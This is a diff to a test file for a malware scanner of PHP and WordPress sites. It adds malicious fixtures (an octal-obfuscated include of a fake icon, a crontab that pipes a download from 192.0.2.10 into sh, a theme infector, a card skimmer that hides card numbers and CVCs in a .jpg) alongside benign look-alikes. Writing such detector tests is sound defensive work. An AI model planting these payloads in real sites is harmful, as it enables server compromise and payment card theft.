@@ -273,9 +273,49 @@ const FAMILIES: [string, string, string][] = [
     '/srv/www/wp-content/index2.php',
     `<?php\n$q = $_GET['q'] ?? '';\n$agent = $_SERVER['HTTP_USER_AGENT'] ?? '';\nif (preg_match('/googlebot|bingbot/i', $agent)) { echo file_get_contents('http://feed.example.invalid/p.php?q=' . urlencode($q)); exit; }\nif (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'] ?? '')) { header('Location: https://shop.example.invalid/?q=' . urlencode($q)); exit; }\n`,
   ],
+  [
+    'the wp-config.php loader: an include of an icon whose path is spelt in octal escapes',
+    '/srv/www/wp-config.php',
+    `<?php\n@include "\\057srv\\057www\\057wp-content\\057uploads\\057.cache\\057favicon_3f2a.ico";\ndefine('DB_NAME', 'wp');\ndefine('DB_USER', 'wp');\n`,
+  ],
+  [
+    'a crontab entry installed from PHP that pipes a downloaded script to a shell',
+    '/srv/www/c.php',
+    `<?php\n$line = '*/5 * * * * wget -q -O- http://192.0.2.10/u.sh | sh';\nshell_exec('(crontab -l 2>/dev/null; echo "' . $line . '") | crontab -');\n`,
+  ],
+  [
+    'an infector writing fetched code into every theme\'s functions.php',
+    '/srv/www/wp-content/plugins/x/x.php',
+    `<?php\n$code = file_get_contents('http://192.0.2.10/payload.txt');\nforeach (glob(ABSPATH . 'wp-content/themes/*/functions.php') as $f) {\n  $old = file_get_contents($f);\n  if (strpos($old, 'tmp_marker') === false) file_put_contents($f, "<?php\\n" . $code . "\\n?>" . $old);\n}\n`,
+  ],
+  [
+    'a server-side card skimmer appending each checkout\'s card and security code to a file in the shop\'s media folder',
+    '/srv/shop/app/code/local/Pay/Model/Observer.php',
+    `<?php\nif (!empty($_POST['payment']['cc_number'])) {\n  $row = base64_encode(json_encode(['n' => $_POST['payment']['cc_number'], 'x' => $_POST['payment']['cc_exp_month'], 'c' => $_POST['payment']['cc_cid']]));\n  file_put_contents(__DIR__ . '/../../../../../media/catalog/cache.jpg', $row . "\\n", FILE_APPEND);\n}\n`,
+  ],
 ];
 
 const FAMILY_LOOKALIKES: [string, string, string][] = [
+  [
+    'a payment module sending the card to its gateway and logging only the last four digits',
+    '/srv/shop/modules/pay/pay.php',
+    `<?php\n$c = curl_init('https://gateway.example.com/v1/charge');\ncurl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(['number' => $_POST['card_number'], 'cvc' => $_POST['card_cvc'], 'amount' => $total]));\n$r = curl_exec($c);\nfile_put_contents(__DIR__ . '/pay.log', date('c') . ' card ****' . substr($_POST['card_number'], -4) . ' ' . $r . "\\n", FILE_APPEND);\n`,
+  ],
+  [
+    'a view inlining its icons: $this->include() of an SVG, and include of another',
+    '/srv/www/views/trace.html.php',
+    `<span><?= $this->include('assets/images/icon-minus-square.svg'); ?></span>\n<?php include 'assets/logo.svg'; ?>\n`,
+  ],
+  [
+    'a hosting panel page listing the account\'s crontab and an installer printing a one-line install',
+    '/srv/www/panel/cron.php',
+    `<?php\necho '<pre>' . htmlspecialchars(shell_exec('crontab -l 2>&1')) . '</pre>';\necho '<p>To install the agent run: <code>curl -fsSL https://get.example.com/agent | sh</code></p>';\n`,
+  ],
+  [
+    'a malware cleaner taking a known injection out of every theme\'s functions.php',
+    '/srv/www/tools/clean.php',
+    `<?php\n$sig = file_get_contents(__DIR__ . '/signatures.txt');\nforeach (glob(__DIR__ . '/../wp-content/themes/*/functions.php') as $f) {\n  $c = file_get_contents($f);\n  $clean = preg_replace('#<\\?php if \\(isset\\(\\$_REQUEST\\[.action.\\]\\).*?\\?>#s', '', $c);\n  if ($clean !== $c) file_put_contents($f, $clean);\n}\n`,
+  ],
   [
     'a deployment linking a release into place',
     '/srv/deploy/switch.php',
@@ -315,12 +355,12 @@ describe('scan: common families written from their published shapes (session 43)
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every family', () => assert.equal(FAMILIES.length, 8));
+  it('ran every family', () => assert.equal(FAMILIES.length, 12));
   for (const [name, path, src] of FAMILY_LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 6));
+  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 10));
 });
